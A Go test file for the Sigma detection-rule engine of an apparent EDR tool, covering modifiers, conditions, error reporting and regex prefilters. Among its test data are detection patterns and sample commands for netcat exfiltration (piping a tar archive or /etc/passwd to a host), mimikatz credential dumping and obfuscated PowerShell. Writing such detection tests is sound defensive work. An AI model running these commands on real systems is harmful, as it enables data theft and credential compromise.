package sigma

import (
	"strings"
	"testing"

	"github.com/vigil-edr/vigil/internal/event"
)

// ruleWith wraps a detection section into a complete rule for product test.
func ruleWith(detection string) string {
	return "title: t\nid: r1\nlogsource:\n  product: test\ndetection:\n" + indent(detection) + "level: high\n"
}

func indent(s string) string {
	var b strings.Builder
	for _, l := range strings.Split(strings.TrimRight(s, "\n"), "\n") {
		b.WriteString("  " + l + "\n")
	}
	return b.String()
}

func ev(kv ...string) *event.Event {
	e := &event.Event{Product: "test"}
	for i := 0; i+1 < len(kv); i += 2 {
		e.Add(kv[i], kv[i+1])
	}
	return e
}

func matches(t *testing.T, rule string, e *event.Event) bool {
	t.Helper()
	eng, err := Compile("test.yml", []byte(rule), Options{})
	if err != nil {
		t.Fatalf("compile: %v", err)
	}
	return len(eng.NewMatcher().Match(e)) > 0
}

func TestModifiers(t *testing.T) {
	cmd := "C:\\Windows\\System32\\cmd.exe"
	tests := []struct {
		name, det string
		ev        *event.Event
		want      bool
	}{
		{"exact case-insensitive", "sel:\n  Image: 'c:\\windows\\system32\\CMD.EXE'\ncondition: sel", ev("Image", cmd), true},
		{"exact differs", "sel:\n  Image: 'cmd.exe'\ncondition: sel", ev("Image", cmd), false},
		{"field name case-insensitive", "sel:\n  image: 'c:\\windows\\system32\\cmd.exe'\ncondition: sel", ev("Image", cmd), true},
		{"endswith", "sel:\n  Image|endswith: '\\cmd.exe'\ncondition: sel", ev("Image", cmd), true},
		{"startswith", "sel:\n  Image|startswith: 'C:\\Windows\\'\ncondition: sel", ev("Image", cmd), true},
		{"contains", "sel:\n  Image|contains: 'system32'\ncondition: sel", ev("Image", cmd), true},
		{"contains list or", "sel:\n  Image|contains:\n    - nope\n    - System32\ncondition: sel", ev("Image", cmd), true},
		{"contains all", "sel:\n  CommandLine|contains|all:\n    - ' -a'\n    - ' -b'\ncondition: sel", ev("CommandLine", "x -b -a"), true},
		{"contains all missing one", "sel:\n  CommandLine|contains|all:\n    - ' -a'\n    - ' -c'\ncondition: sel", ev("CommandLine", "x -b -a"), false},
		{"wildcard star", "sel:\n  Image: 'C:\\\\*\\cmd.exe'\ncondition: sel", ev("Image", cmd), true},
		{"escaped star not wildcard", "sel:\n  Image: 'C:\\*\\cmd.exe'\ncondition: sel", ev("Image", cmd), false},
		{"wildcard question", "sel:\n  User: 'adm?n'\ncondition: sel", ev("User", "ADMIN"), true},
		{"wildcard question needs one", "sel:\n  User: 'adm?n'\ncondition: sel", ev("User", "admn"), false},
		{"escaped star is literal", "sel:\n  CommandLine: 'a\\*b'\ncondition: sel", ev("CommandLine", "a*b"), true},
		{"escaped star no wildcard", "sel:\n  CommandLine: 'a\\*b'\ncondition: sel", ev("CommandLine", "axxb"), false},
		{"double backslash before star", "sel:\n  Path: 'c:\\\\*'\ncondition: sel", ev("Path", "c:\\x"), true},
		{"cased", "sel:\n  User|cased: 'Admin'\ncondition: sel", ev("User", "admin"), false},
		{"cased ok", "sel:\n  User|cased: 'Admin'\ncondition: sel", ev("User", "Admin"), true},
		{"re case-sensitive", "sel:\n  CommandLine|re: 'Invoke-[A-Z]'\ncondition: sel", ev("CommandLine", "invoke-x"), false},
		{"re i flag", "sel:\n  CommandLine|re|i: 'invoke-[a-z]+'\ncondition: sel", ev("CommandLine", "INVOKE-MIMIKATZ"), true},
		{"re s flag", "sel:\n  Msg|re|s: 'a.b'\ncondition: sel", ev("Msg", "a\nb"), true},
		{"re no s flag", "sel:\n  Msg|re: '^a.b$'\ncondition: sel", ev("Msg", "a\nb"), false},
		{"re m flag", "sel:\n  Msg|re|m: '^b$'\ncondition: sel", ev("Msg", "a\nb"), true},
		{"base64", "sel:\n  Data|base64: 'cmd'\ncondition: sel", ev("Data", "Y21k"), true},
		{"base64offset contains 0", "sel:\n  Data|base64offset|contains: 'http://'\ncondition: sel", ev("Data", "x aHR0cDovL y"), true},
		{"base64offset contains 1", "sel:\n  Data|base64offset|contains: 'http://'\ncondition: sel", ev("Data", "IGh0dHA6Ly9"), true},
		{"base64offset contains 2", "sel:\n  Data|base64offset|contains: 'http://'\ncondition: sel", ev("Data", "ICBodHRwOi8v"), true},
		{"wide base64offset", "sel:\n  CommandLine|wide|base64offset|contains: 'ping'\ncondition: sel", ev("CommandLine", "-enc cABpAG4AZwA="), true},
		{"utf16le", "sel:\n  Data|utf16le|contains: 'ab'\ncondition: sel", ev("Data", "xa\x00b\x00y"), true},
		{"utf16be", "sel:\n  Data|utf16be|contains: 'ab'\ncondition: sel", ev("Data", "x\x00a\x00by"), true},
		{"utf16 base64", "sel:\n  Data|utf16|base64|contains: 'a'\ncondition: sel", ev("Data", "x//5hAA==y"), true},
		{"windash slash", "sel:\n  CommandLine|windash|contains: ' -exec '\ncondition: sel", ev("CommandLine", "x /exec y"), true},
		{"windash en dash", "sel:\n  CommandLine|windash|contains: ' -exec '\ncondition: sel", ev("CommandLine", "x \u2013exec y"), true},
		{"windash not mid-word", "sel:\n  CommandLine|windash|contains: 'a-b'\ncondition: sel", ev("CommandLine", "a/b"), false},
		{"cidr v4", "sel:\n  DestinationIp|cidr: '10.0.0.0/8'\ncondition: sel", ev("DestinationIp", "10.1.2.3"), true},
		{"cidr v4 out", "sel:\n  DestinationIp|cidr: '10.0.0.0/8'\ncondition: sel", ev("DestinationIp", "11.1.2.3"), false},
		{"cidr v6", "sel:\n  DestinationIp|cidr: 'fe80::/10'\ncondition: sel", ev("DestinationIp", "fe80::1%eth0"), true},
		{"cidr mapped v4", "sel:\n  DestinationIp|cidr: '127.0.0.0/8'\ncondition: sel", ev("DestinationIp", "::ffff:127.0.0.1"), true},
		{"gt", "sel:\n  Size|gt: 100\ncondition: sel", ev("Size", "101"), true},
		{"gte edge", "sel:\n  Size|gte: 100\ncondition: sel", ev("Size", "100"), true},
		{"lt hex", "sel:\n  Access|lt: 0x20\ncondition: sel", ev("Access", "0x10"), true},
		{"lte no", "sel:\n  Size|lte: 100\ncondition: sel", ev("Size", "100.5"), false},
		{"gt not a number", "sel:\n  Size|gt: 1\ncondition: sel", ev("Size", "many"), false},
		{"neq", "sel:\n  User|neq: root\ncondition: sel", ev("User", "alice"), true},
		{"neq same", "sel:\n  User|neq: root\ncondition: sel", ev("User", "ROOT"), false},
		{"exists true", "sel:\n  User|exists: true\ncondition: sel", ev("User", ""), true},
		{"exists false", "sel:\n  User|exists: false\ncondition: sel", ev("Other", "x"), true},
		{"exists false present", "sel:\n  User|exists: false\ncondition: sel", ev("User", "x"), false},
		{"null absent", "sel:\n  User: null\ncondition: sel", ev("Other", "x"), true},
		{"null empty", "sel:\n  User: null\ncondition: sel", ev("User", ""), true},
		{"null present", "sel:\n  User: null\ncondition: sel", ev("User", "x"), false},
		{"empty string", "sel:\n  User: ''\ncondition: sel", ev("User", ""), true},
		{"empty string not absent", "sel:\n  User: ''\ncondition: sel", ev("Other", ""), false},
		{"fieldref", "sel:\n  User|fieldref: ParentUser\ncondition: sel", ev("User", "Bob", "ParentUser", "bob"), true},
		{"fieldref differs", "sel:\n  User|fieldref: ParentUser\ncondition: sel", ev("User", "bob", "ParentUser", "eve"), false},
		{"fieldref neq", "sel:\n  User|fieldref|neq: ParentUser\ncondition: sel", ev("User", "bob", "ParentUser", "eve"), true},
		{"fieldref endswith", "sel:\n  TargetFilename|fieldref|endswith: Name\ncondition: sel", ev("TargetFilename", "c:\\x\\a.exe", "Name", "a.exe"), true},
		{"hour", "sel:\n  UtcTime|hour: 3\ncondition: sel", ev("UtcTime", "2024-01-02 03:04:05.123"), true},
		{"month gt", "sel:\n  UtcTime|month|gt: 6\ncondition: sel", ev("UtcTime", "2024-11-02T03:04:05Z"), true},
		{"number value", "sel:\n  EventID: 4688\ncondition: sel", ev("EventID", "4688"), true},
		{"number list", "sel:\n  EventID:\n    - 1\n    - 4688\ncondition: sel", ev("EventID", "4688"), true},
		{"multi-valued field any", "sel:\n  Data|contains: 'evil'\ncondition: sel", ev("Data", "good", "Data", "so evil"), true},
		{"keywords", "keywords:\n  - 'mimikatz'\n  - 'sekurlsa'\ncondition: keywords", ev("CommandLine", "run SEKURLSA::logonpasswords"), true},
		{"keywords none", "keywords:\n  - 'mimikatz'\ncondition: keywords", ev("CommandLine", "ok"), false},
		{"keywords all", "keywords:\n  '|all':\n    - 'a1b2'\n    - 'c3d4'\ncondition: keywords", ev("X", "a1b2", "Y", "c3d4"), true},
		{"keyword with wildcard", "keywords:\n  - 'evil*payload'\ncondition: keywords", ev("X", "an evil thing payload"), true},
		{"keyword with wildcard full", "keywords:\n  - '*evil*payload*'\ncondition: keywords", ev("X", "an evil thing payload"), true},
		{"list of maps or", "sel:\n  - Image|endswith: '\\a.exe'\n  - Image|endswith: '\\cmd.exe'\ncondition: sel", ev("Image", cmd), true},
		{"map is and", "sel:\n  Image|endswith: '\\cmd.exe'\n  User: bob\ncondition: sel", ev("Image", cmd, "User", "eve"), false},
		{"missing field", "sel:\n  Nope|contains: x\ncondition: sel", ev("Image", cmd), false},
		{"not", "sel:\n  Image|endswith: '\\cmd.exe'\nfilter:\n  User: bob\ncondition: sel and not filter", ev("Image", cmd, "User", "eve"), true},
		{"not filtered", "sel:\n  Image|endswith: '\\cmd.exe'\nfilter:\n  User: bob\ncondition: sel and not filter", ev("Image", cmd, "User", "bob"), false},
		{"1 of pattern", "sel_a:\n  User: x\nsel_b:\n  Image|endswith: '\\cmd.exe'\ncondition: 1 of sel_*", ev("Image", cmd), true},
		{"all of pattern", "sel_a:\n  User: x\nsel_b:\n  Image|endswith: '\\cmd.exe'\ncondition: all of sel_*", ev("Image", cmd), false},
		{"1 of them skips underscore", "_hidden:\n  Image|endswith: '\\cmd.exe'\nsel:\n  User: x\ncondition: 1 of them", ev("Image", cmd), false},
		{"all of them", "a:\n  Image|contains: cmd\nb:\n  Image|contains: system32\ncondition: all of them", ev("Image", cmd), true},
		{"2 of", "a:\n  Image|contains: cmd\nb:\n  Image|contains: zzz\nc:\n  Image|contains: windows\ncondition: 2 of them", ev("Image", cmd), true},
		{"precedence not and or", "a:\n  X: '1'\nb:\n  Y: '1'\nc:\n  Z: '1'\ncondition: a or b and not c", ev("X", "1", "Z", "1"), true},
		{"parens", "a:\n  X: '1'\nb:\n  Y: '1'\nc:\n  Z: '1'\ncondition: (a or b) and not c", ev("X", "1", "Z", "1"), false},
		{"condition list is or", "a:\n  X: '1'\nb:\n  Y: '1'\ncondition:\n  - a\n  - b", ev("Y", "1"), true},
		{"unicode case fold", "sel:\n  User: 'ÉMILE'\ncondition: sel", ev("User", "émile"), true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := matches(t, ruleWith(tc.det), tc.ev); got != tc.want {
				t.Errorf("match = %v, want %v\nrule:\n%s", got, tc.want, ruleWith(tc.det))
			}
		})
	}
}

func TestRejects(t *testing.T) {
	tests := []struct{ name, rule, want string }{
		{"lookahead", ruleWith("sel:\n  X|re: 'a(?=b)'\ncondition: sel"), "RE2 does not support"},
		{"backreference", ruleWith("sel:\n  X|re: '(a)\\1'\ncondition: sel"), "RE2 does not support"},
		{"unknown modifier", ruleWith("sel:\n  X|frobnicate: a\ncondition: sel"), `unknown modifier "frobnicate"`},
		{"undefined identifier", ruleWith("sel:\n  X: a\ncondition: sel and other"), `does not define`},
		{"aggregation", ruleWith("sel:\n  X: a\ncondition: sel | count() by Y > 5"), "correlation"},
		{"unbalanced", ruleWith("sel:\n  X: a\ncondition: (sel"), "missing ')'"},
		{"no title", "id: x\nlogsource:\n  product: a\ndetection:\n  sel:\n    X: a\n  condition: sel\n", "missing title"},
		{"expand undefined", ruleWith("sel:\n  X|expand: '%admins%'\ncondition: sel"), "placeholder %admins%"},
		{"re flag without re", ruleWith("sel:\n  X|i: a\ncondition: sel"), "need the re modifier"},
		{"cidr bad", ruleWith("sel:\n  X|cidr: notanip\ncondition: sel"), "not a network"},
		{"not yaml", "title: [unclosed\n", "not valid YAML"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Compile("bad.yml", []byte(tc.rule), Options{})
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error = %v, want it to contain %q", err, tc.want)
			}
			if !strings.HasPrefix(err.Error(), "bad.yml:") {
				t.Errorf("error %q does not name the file", err)
			}
		})
	}
}

func TestErrorNamesLine(t *testing.T) {
	rule := ruleWith("sel:\n  X|re: 'a(?<=b)'\ncondition: sel")
	_, err := Compile("bad.yml", []byte(rule), Options{})
	if err == nil || !strings.Contains(err.Error(), "bad.yml:7:") {
		t.Fatalf("error = %v, want bad.yml:7:", err)
	}
}

func TestLogsourceGate(t *testing.T) {
	rule := "title: t\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  sel:\n    Image|endswith: '\\cmd.exe'\n  condition: sel\n"
	eng, err := Compile("r.yml", []byte(rule), Options{})
	if err != nil {
		t.Fatal(err)
	}
	m := eng.NewMatcher()
	e := ev("Image", "c:\\cmd.exe")
	e.Product, e.Categories = "windows", []string{"process_creation"}
	if len(m.Match(e)) != 1 {
		t.Fatal("rule did not match its own log source")
	}
	e.Categories = []string{"file_event"}
	if len(m.Match(e)) != 0 {
		t.Fatal("rule matched another category")
	}
	e.Product, e.Categories = "linux", []string{"process_creation"}
	if len(m.Match(e)) != 0 {
		t.Fatal("rule matched another product")
	}
}

func TestFilterSuppresses(t *testing.T) {
	rules := ruleWith("sel:\n  Image|endswith: '\\rar.exe'\ncondition: sel") + "---\n" +
		"title: f\nlogsource:\n  product: test\nfilter:\n  rules:\n    - r1\n  selection:\n    User|startswith: 'adm_'\n  condition: selection\n"
	eng, err := Compile("r.yml", []byte(rules), Options{})
	if err != nil {
		t.Fatal(err)
	}
	m := eng.NewMatcher()
	if n := len(m.Match(ev("Image", "c:\\rar.exe", "User", "adm_bob"))); n != 0 {
		t.Errorf("filtered event matched %d rules", n)
	}
	if n := len(m.Match(ev("Image", "c:\\rar.exe", "User", "bob"))); n != 1 {
		t.Errorf("unfiltered event matched %d rules, want 1", n)
	}
}

func TestMatchedFields(t *testing.T) {
	rule := ruleWith("sel:\n  Image|endswith: '\\cmd.exe'\n  CommandLine|contains: whoami\nfilter:\n  User: x\ncondition: sel and not filter")
	eng, err := Compile("r.yml", []byte(rule), Options{})
	if err != nil {
		t.Fatal(err)
	}
	ms := eng.NewMatcher().Match(ev("Image", "c:\\cmd.exe", "CommandLine", "cmd /c whoami", "User", "bob", "Other", "1"))
	if len(ms) != 1 {
		t.Fatalf("matches = %d", len(ms))
	}
	var got []string
	for _, f := range ms[0].Fields {
		got = append(got, f.Name+"="+f.Value)
	}
	if strings.Join(got, ",") != "Image=c:\\cmd.exe,CommandLine=cmd /c whoami" {
		t.Errorf("fields = %v", got)
	}
}

func TestDeepDocumentsRejectedQuickly(t *testing.T) {
	deepFlow := strings.Repeat("[", 10000) + strings.Repeat("]", 10000)
	var deepBlock strings.Builder
	for i := 0; i < 1000; i++ {
		deepBlock.WriteString(strings.Repeat(" ", i) + "a:\n")
	}
	for name, doc := range map[string]string{"flow": "title: " + deepFlow, "block": deepBlock.String()} {
		_, errs := ParseFile("deep.yml", []byte(doc))
		if len(errs) != 1 || !strings.Contains(errs[0].Error(), "nested too deeply") {
			t.Errorf("%s: errs = %v", name, errs)
		}
	}
}

func TestHugeRegexRejectedOrBounded(t *testing.T) {
	re := strings.Repeat("(", 2000) + "a" + strings.Repeat(")*", 2000)
	_, err := Compile("re.yml", []byte(ruleWith("sel:\n  X|re: '"+re+"'\ncondition: sel")), Options{})
	if err == nil {
		t.Fatal("deeply nested 4 KiB regex compiled")
	}
}

func TestBracketsInValuesAreNotNesting(t *testing.T) {
	vals := strings.Repeat("    - '[[[{{'\n", 100)
	_, err := Compile("b.yml", []byte(ruleWith("sel:\n  X|contains:\n"+vals+"condition: sel")), Options{})
	if err != nil {
		t.Fatal(err)
	}
}

func TestManyContainsValues(t *testing.T) {
	var b strings.Builder
	b.WriteString("sel:\n  CommandLine|contains:\n")
	for _, v := range []string{"а", "е", "о", "р", "с", "у", "х", "ѕ", "і", "ј", "ԁ", "ɡ", "😀"} {
		b.WriteString("    - '" + v + "'\n")
	}
	b.WriteString("condition: sel")
	rule := ruleWith(b.String())
	for _, tc := range []struct {
		cmd  string
		want bool
	}{
		{"powershell -enc abc", false},
		{"powershеll -enc abc", true}, // Cyrillic е
		{"run 😀 now", true},
		{"", false},
	} {
		if got := matches(t, rule, ev("CommandLine", tc.cmd)); got != tc.want {
			t.Errorf("%q: match = %v, want %v", tc.cmd, got, tc.want)
		}
	}
}

// A regex value first checks that the lower-cased value holds one literal of
// each required set; the sets must never refuse a value the expression
// matches.
func TestRegexPrefilter(t *testing.T) {
	tests := []struct {
		re      string
		sets    string // sets joined by " & ", literals by "|"
		matches []string
		misses  []string
	}{
		{`\|\s*(\S*/)?(nc|socat)\s+\S`, "| & nc|socat", []string{"tar c . | nc 10.0.0.1 9", "x |/bin/socat a"}, []string{"tar c . > nc", "nc 10.0.0.1"}},
		{`(^|[;&])(nc|telnet)\s+\S+\s+\d+\s*<\s*\S`, "< & nc|telnet", []string{"nc h 9 < /etc/passwd"}, []string{"nc h 9 > x"}},
		{`(?i)FOO\s+bar`, "foo & bar", []string{"foo   BAR", "FOO bar"}, []string{"foobar"}},
		{`(?i)ks`, "", []string{"\u212As"}, nil}, // K (Kelvin) matches k: no literal is required of the value
		{`a*b?`, "", []string{""}, nil},
		{`x{2,}y`, "x & y", []string{"xxy"}, []string{"xy y"}},
	}
	for _, tc := range tests {
		m, err := compileRegex(tc.re, "")
		if err != nil {
			t.Fatal(err)
		}
		r := m[0].(reMatch)
		var sets []string
		for _, s := range r.pre {
			sets = append(sets, strings.Join(s, "|"))
		}
		if got := strings.Join(sets, " & "); got != tc.sets {
			t.Errorf("%s: sets %q, want %q", tc.re, got, tc.sets)
		}
		for _, v := range tc.matches {
			if !r.re.MatchString(v) || !r.match(v, event.ToLower(v)) {
				t.Errorf("%s: %q refused (regexp alone: %v)", tc.re, v, r.re.MatchString(v))
			}
		}
		for _, v := range tc.misses {
			if r.match(v, event.ToLower(v)) {
				t.Errorf("%s: %q matched", tc.re, v)
			}
		}
	}
}

func TestRequiredLiterals(t *testing.T) {
	tests := []struct {
		re   string
		want []string
	}{
		{`Invoke-Mimikatz`, []string{"invoke-mimikatz"}},
		{`(?i)foo\s+barbaz`, []string{"barbaz"}},
		{`(cmd|powershell)\.exe -enc`, []string{".exe -enc"}},
		{`(certutil|bitsadmin)`, []string{"certutil", "bitsadmin"}},
		{`(certutil|ab)`, nil},
		{`a*bcdef?`, []string{"bcde"}},
		{`(abcd){2,}`, []string{"abcd"}},
		{`(abcd)?`, nil},
	}
	for _, tc := range tests {
		m, err := compileRegex(tc.re, "")
		if err != nil {
			t.Fatal(err)
		}
		got := m[0].needles()
		if strings.Join(got, "|") != strings.Join(tc.want, "|") {
			t.Errorf("%s: literals %q, want %q", tc.re, got, tc.want)
		}
	}
}
